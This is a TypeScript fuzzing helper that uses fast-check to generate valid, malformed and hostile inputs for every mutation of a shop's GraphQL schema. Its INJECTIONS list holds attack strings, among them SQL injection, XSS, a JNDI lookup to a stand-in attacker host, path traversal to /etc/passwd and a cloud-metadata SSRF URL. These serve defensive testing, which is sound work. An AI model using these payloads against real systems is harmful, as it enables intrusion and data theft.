import fc from 'fast-check';
import { readFileSync } from 'node:fs';
import {
  buildSchema,
  GraphQLEnumType,
  GraphQLInputObjectType,
  GraphQLList,
  GraphQLObjectType,
  GraphQLScalarType,
  isNonNullType,
  isObjectType,
  type GraphQLField,
  type GraphQLInputType,
} from 'graphql';
import { ids } from './account-fixtures.js';
import { paymentMethods, product, shippingMethods, WINE } from './checkout-fixtures.js';

/** The committed SDL: the contract clients are generated from, so the fuzzer sees what they see. */
export const SDL_SCHEMA = buildSchema(readFileSync(new URL('../../../schema/schema.graphql', import.meta.url), 'utf8'));

const INJECTIONS = [
  "' OR '1'='1' --",
  'Robert"); DROP TABLE customer;--',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '%00%0d%0aSet-Cookie:x=1',
  '{"$gt":""}',
  '__proto__',
  'constructor',
  '\u0000',
  '\uD800',
  '\u202Egnp.exe',
  'javascript:alert(1)',
  'http://169.254.169.254/latest/meta-data/',
  '0'.repeat(32),
  '-1',
  'NaN',
];
const CONTROL = fc.integer({ min: 0, max: 31 }).map((code) => String.fromCharCode(code));

/** Strings as a shopper, a broken client or an attacker sends them. */
export const fuzzString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: CONTROL, maxLength: 20 }) },
  { weight: 2, arbitrary: fc.constantFrom(...INJECTIONS) },
  { weight: 1, arbitrary: fc.constantFrom('', ' ', '\t\n', 'ä', '🍷') },
  // Huge, yet under the HTTP body limit: the input rules, not the transport, must refuse them.
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom('a', 'ß', '🍇', '<'), fc.integer({ min: 256, max: 150_000 }))
      .map(([unit, times]) => unit.repeat(times)),
  },
);

const SEEDED_IDS = [
  WINE,
  product('dornfelder-trocken-2023'),
  ids.germany,
  ids.austria,
  ids.rheinlandPfalz,
  ids.mr,
  ids.mrs,
  ...Object.values(paymentMethods),
  ...Object.values(shippingMethods),
];
const fuzzId = fc.oneof(
  { weight: 2, arbitrary: fc.constantFrom(...SEEDED_IDS) },
  { weight: 1, arbitrary: fc.uuid().map((uuid) => uuid.replaceAll('-', '')) },
  { weight: 2, arbitrary: fuzzString },
);

/** Values that pass the first checks for fields of these names, so that runs also reach Shopware. */
const PLAUSIBLE: Record<string, fc.Arbitrary<unknown>> = {
  email: fc.emailAddress(),
  emailConfirmation: fc.emailAddress(),
  em: fc.emailAddress(),
  password: fc.constantFrom('Riesling-2019', 'kurz', 'x'.repeat(8)),
  storefrontUrl: fc.oneof(fc.webUrl(), fc.constant('http://localhost:4000')),
  finishUrl: fc.oneof(fc.webUrl(), fc.constant('http://localhost:4000/order-success')),
  errorUrl: fc.oneof(fc.webUrl(), fc.constant('http://localhost:4000/payment-failure')),
  zipcode: fc.constantFrom('76831', '1010', 'ABC'),
  phoneNumber: fc.constantFrom('+49 6345 123456', '12', 'call me'),
  code: fc.constantFrom('WEINFREUNDE10', 'PFALZ5', 'UNKNOWN'),
};

/** A JSON value of another kind than the type wants: GraphQL's coercion must refuse it by name. */
const wrongKind = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.array(fc.string({ maxLength: 5 }), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 5 }), fc.string({ maxLength: 5 }), { maxKeys: 3 }),
  fc.string({ maxLength: 10 }),
);

const INT_EDGES = [0, -1, 1, 99, 100, 2 ** 31 - 1, -(2 ** 31), 2 ** 31, Number.MAX_SAFE_INTEGER, 1e308, -0, 1.5];

function scalar(type: GraphQLScalarType | GraphQLEnumType, name: string): fc.Arbitrary<unknown> {
  if (type instanceof GraphQLEnumType)
    return fc.oneof(fc.constantFrom(...type.getValues().map((value) => value.name)), fuzzString);
  const plausible = PLAUSIBLE[name];
  const base = (() => {
    switch (type.name) {
      case 'ID':
        return fuzzId;
      case 'Int':
        return fc.oneof(fc.integer({ min: -5, max: 120 }), fc.constantFrom(...INT_EDGES), fc.integer());
      case 'Float':
        return fc.oneof(fc.double({ min: -1e6, max: 1e6, noNaN: true }), fc.constantFrom(0, -1, 1e308, -1e308, 5e-324));
      case 'Boolean':
        return fc.boolean();
      default:
        return fuzzString;
    }
  })();
  return plausible ? fc.oneof(plausible, base) : base;
}

/**
 * Well-typed inputs pass GraphQL's coercion and test the gateway's own rules; dirty ones (nulls
 * for required fields, values of the wrong kind, missing fields, arrays for objects) test the
 * coercion's refusals. Mixed in one input, almost no input of a large type would be well-typed.
 */
type Mode = 'typed' | 'dirty';

/** An input object: every field; when dirty, sometimes any subset (required fields missing). */
function inputObject(type: GraphQLInputObjectType, mode: Mode, depth: number): fc.Arbitrary<unknown> {
  const fields = Object.fromEntries(
    Object.values(type.getFields()).map((field) => [field.name, valueFor(field.type, field.name, mode, depth + 1)]),
  );
  if (mode === 'typed') return fc.record(fields);
  return fc.oneof(
    { weight: 3, arbitrary: fc.record(fields) },
    { weight: 1, arbitrary: fc.record(fields, { requiredKeys: [] }) },
  );
}

/** A value for a GraphQL input type: of the right kind or null where allowed, and when dirty sometimes of the wrong kind. */
export function valueFor(type: GraphQLInputType, name: string, mode: Mode, depth = 0): fc.Arbitrary<unknown> {
  const nullable = !isNonNullType(type);
  const named = isNonNullType(type) ? type.ofType : type;
  let typed: fc.Arbitrary<unknown>;
  if (named instanceof GraphQLList) {
    const item = valueFor(named.ofType as GraphQLInputType, name, mode, depth + 1);
    // A single item is also valid (GraphQL coerces it into a list); 101+ ids exceed Shopware's page cap.
    typed = fc.oneof(
      fc.array(item, { maxLength: 5 }),
      fc.array(fc.constantFrom(...SEEDED_IDS), { minLength: 101, maxLength: 130 }),
      item,
    );
  } else if (named instanceof GraphQLInputObjectType) {
    const object = depth > 3 ? fc.constant({}) : inputObject(named, mode, depth);
    typed =
      mode === 'typed'
        ? object
        : fc.oneof({ weight: 6, arbitrary: object }, { weight: 1, arbitrary: fc.array(object, { maxLength: 2 }) });
  } else {
    typed = scalar(named as GraphQLScalarType | GraphQLEnumType, name);
  }
  if (mode === 'typed')
    return nullable ? fc.oneof({ weight: 6, arbitrary: typed }, { weight: 1, arbitrary: fc.constant(null) }) : typed;
  return fc.oneof(
    { weight: nullable ? 8 : 14, arbitrary: typed },
    { weight: 1, arbitrary: fc.constant(null) },
    { weight: 1, arbitrary: wrongKind },
  );
}

export interface FuzzedMutation {
  name: string;
  /** The operation with every argument as a variable and the payload's userErrors. */
  query: string;
  /** Argument and input-field names a refusal may name (`billingAddress.city` names billingAddress). */
  names: Set<string>;
  variables: fc.Arbitrary<Record<string, unknown>>;
}

function inputNames(type: GraphQLInputType, into: Set<string>): void {
  const named = isNonNullType(type) ? type.ofType : type;
  if (named instanceof GraphQLList) return inputNames(named.ofType as GraphQLInputType, into);
  if (!(named instanceof GraphQLInputObjectType)) return;
  for (const field of Object.values(named.getFields())) {
    if (into.has(`${named.name}.${field.name}`)) continue;
    into.add(`${named.name}.${field.name}`).add(field.name);
    inputNames(field.type, into);
  }
}

function fuzzedMutation(field: GraphQLField<unknown, unknown>): FuzzedMutation {
  const payload = isNonNullType(field.type) ? field.type.ofType : field.type;
  const selection =
    isObjectType(payload) && (payload as GraphQLObjectType).getFields().userErrors
      ? '__typename userErrors { field code message }'
      : '__typename';
  const declarations = field.args.map((arg) => `$${arg.name}: ${arg.type.toString()}`).join(', ');
  const call = field.args.map((arg) => `${arg.name}: $${arg.name}`).join(', ');
  const query = field.args.length
    ? `mutation Fuzz(${declarations}) { ${field.name}(${call}) { ${selection} } }`
    : `mutation Fuzz { ${field.name} { ${selection} } }`;
  const names = new Set(field.args.map((arg) => arg.name));
  for (const arg of field.args) inputNames(arg.type, names);
  const args = (mode: Mode) =>
    Object.fromEntries(field.args.map((arg) => [arg.name, valueFor(arg.type, arg.name, mode)]));
  // Dirty variables sometimes lack arguments: a required one missing must be refused by name.
  const variables = fc.oneof(
    fc.record(args('typed')),
    fc.record(args('dirty')),
    fc.record(args('dirty'), { requiredKeys: [] }),
  );
  return { name: field.name, query, names, variables: variables as fc.Arbitrary<Record<string, unknown>> };
}

/** Every mutation of the committed schema, with its generator. */
export const MUTATIONS: FuzzedMutation[] = Object.values(SDL_SCHEMA.getMutationType()!.getFields()).map(fuzzedMutation);
